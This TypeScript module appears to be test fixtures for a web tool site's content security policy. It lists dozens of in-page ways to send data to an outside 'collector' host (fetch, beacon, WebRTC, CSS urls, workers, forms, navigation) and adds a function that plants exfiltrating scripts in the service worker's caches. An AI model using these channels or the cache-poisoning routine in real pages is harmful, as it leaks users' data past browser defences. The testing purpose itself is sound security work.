/**
 * Ways to send data out of a page, as code that runs in it. `collector` is the address of a listening stranger;
 * `element` makes an element with attributes and puts it into the document.
 */
export const silentChannels: Readonly<Record<string, string>> = {
  fetch: `fetch(collector + 'fetch')`,
  fetchPost: `fetch(collector + 'fetch-post', { method: 'POST', body: 'secret' })`,
  fetchNoCors: `fetch(collector + 'fetch-no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  fetchKeepalive: `fetch(collector + 'fetch-keepalive', { keepalive: true, mode: 'no-cors' })`,
  xhr: `const request = new XMLHttpRequest(); request.open('POST', collector + 'xhr'); request.send('secret')`,
  beacon: `navigator.sendBeacon(collector + 'beacon', 'secret')`,
  eventSource: `new EventSource(collector + 'event-source')`,
  webSocket: `new WebSocket(collector.replace('http', 'ws') + 'web-socket')`,
  webTransport: `new WebTransport(collector.replace('http:', 'https:') + 'web-transport').ready`,
  webRtc: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + collectorHost }] });
    peer.createDataChannel('x'); peer.setLocalDescription(await peer.createOffer())`,
  webRtcTcp: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + collectorHost + '?transport=tcp', username: 'secret', credential: 'x' }] });
    peer.createDataChannel('x'); peer.setLocalDescription(await peer.createOffer())`,
  image: `new Image().src = collector + 'image'`,
  imageSet: `element('img', { srcset: collector + 'image-set 1x' })`,
  picture: `element('picture').append(Object.assign(document.createElement('source'), { srcset: collector + 'picture' }), document.createElement('img'))`,
  styleAttribute: `element('div', { style: 'background: url(' + collector + 'style-attribute)' })`,
  styleElement: `element('style').textContent = '@import url(' + collector + 'style-element); body { background: url(' + collector + 'style-url) }'`,
  adoptedSheet: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + collector + 'adopted) }'); document.adoptedStyleSheets.push(sheet)`,
  cursor: `document.body.style.cursor = 'url(' + collector + 'cursor), auto'`,
  mask: `document.body.style.mask = 'url(' + collector + 'mask#x)'`,
  font: `new FontFace('stolen', 'url(' + collector + 'font)').load()`,
  audio: `element('audio', { src: collector + 'audio', autoplay: '' })`,
  video: `element('video', { src: collector + 'video', poster: collector + 'poster', autoplay: '' })`,
  track: `element('video').append(Object.assign(document.createElement('track'), { src: collector + 'track', default: true }))`,
  object: `element('object', { data: collector + 'object' })`,
  embed: `element('embed', { src: collector + 'embed' })`,
  frame: `element('iframe', { src: collector + 'frame' })`,
  frameSource: `element('iframe', { srcdoc: '<img src=' + collector + 'frame-source>' })`,
  frameJavaScript: `element('iframe', { src: 'javascript:fetch("' + collector + 'frame-javascript")' })`,
  script: `element('script', { src: collector + 'script' })`,
  moduleImport: `import(collector + 'module.js')`,
  dataModule: `import('data:text/javascript,fetch("' + collector + 'data-module")')`,
  evaluated: `new Function('fetch("' + collector + 'evaluated")')()`,
  blobWorker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + collector + 'blob-worker")'], { type: 'text/javascript' })))`,
  sharedWorker: `new SharedWorker(collector + 'shared-worker.js')`,
  serviceWorker: `navigator.serviceWorker.register(collector + 'service-worker.js')`,
  stylesheetLink: `element('link', { rel: 'stylesheet', href: collector + 'stylesheet' })`,
  preload: `element('link', { rel: 'preload', as: 'fetch', href: collector + 'preload' })`,
  modulePreload: `element('link', { rel: 'modulepreload', href: collector + 'module-preload.js' })`,
  prefetch: `element('link', { rel: 'prefetch', href: collector + 'prefetch' })`,
  preconnect: `element('link', { rel: 'preconnect', href: collector })`,
  icon: `element('link', { rel: 'icon', href: collector + 'icon' })`,
  manifest: `element('link', { rel: 'manifest', href: collector + 'manifest' })`,
  speculation: `element('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [collector + 'speculation'] }] })`,
  svgImage: `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', collector + 'svg-image');
    svg.append(image); document.body.append(svg)`,
  svgUse: `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use'); use.setAttribute('href', collector + 'svg-use#x');
    svg.append(use); document.body.append(svg)`,
};

/** Ways that open another page, or ask on the side while a link is followed: the page stays, so they can share one. */
export const openingChannels: Readonly<Record<string, string>> = {
  open: `window.open(collector + 'open?secret')`,
  openNoOpener: `window.open(collector + 'open-no-opener?secret', '_blank', 'noopener')`,
  linkTarget: `const link = element('a', { href: collector + 'link-target?secret', target: '_blank' }); link.click()`,
  ping: `const link = element('a', { href: '#x', ping: collector + 'ping' }); link.click()`,
  formTarget: `const form = element('form', { action: collector + 'form-target', target: '_blank' }); form.submit()`,
};

/** Ways that leave the page: each needs a page of its own. */
export const leavingChannels: Readonly<Record<string, string>> = {
  location: `location.href = collector + 'location?secret'`,
  link: `const link = element('a', { href: collector + 'link?secret' }); link.click()`,
  formGet: `const form = element('form', { action: collector + 'form-get' }); form.submit()`,
  formPost: `const form = element('form', { action: collector + 'form-post', method: 'post' }); form.submit()`,
  metaRefresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + collector + 'meta-refresh'; document.head.append(meta)`,
};

/** The ways by navigation, as scripts for a page each. */
export const navigations: readonly string[] = [
  Object.values(openingChannels)
    .map((code) => `{ ${code} }`)
    .join('\n'),
  ...Object.values(leavingChannels),
];

/** Ways to reach our own server beyond the assets: closed as well, so that not even we can take data from a tool. */
export const ownChannels: Readonly<Record<string, string>> = {
  ownPost: `fetch('/rest/v1/contact_messages', { method: 'POST', body: 'secret' })`,
  ownApi: `fetch('/api/form-token')`,
  ownPage: `fetch('/livez?secret')`,
  ownBeacon: `if (navigator.sendBeacon('/rest/v1/contact_messages', 'secret')) throw 'sent'`,
  ownForm: `const form = element('form', { action: '/rest/v1/contact_messages', method: 'post' }); form.submit()`,
};

/**
 * A way out by a detour: writes pages and scripts that send data out, and carry no policy, over all that the service
 * worker has stored, and beside it at the addresses of pages and of this page's scripts. Returns how many answers it
 * planted.
 */
export async function plantInCaches(collector: string): Promise<number> {
  const script = `new Image().src = '${collector}planted'; fetch('${collector}planted', { mode: 'no-cors' });`;
  const plant = (isScript: boolean) =>
    new Response(isScript ? script : `<!doctype html><title>Planted</title><script>${script}</script>`, {
      headers: { 'content-type': isScript ? 'text/javascript' : 'text/html' },
    });
  const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
  const beside = ['/', '/all-tools', '/tools/hash-generator', location.pathname, ...loaded];
  let count = 0;
  for (const name of new Set(['assets', 'pages', ...(await caches.keys())])) {
    const cache = await caches.open(name);
    const stored = (await cache.keys()).map(({ url }) => url);
    for (const key of new Set([...stored, ...beside])) {
      await cache.put(key, plant(new URL(key, location.href).pathname.endsWith('.js')));
      count += 1;
    }
  }
  return count;
}
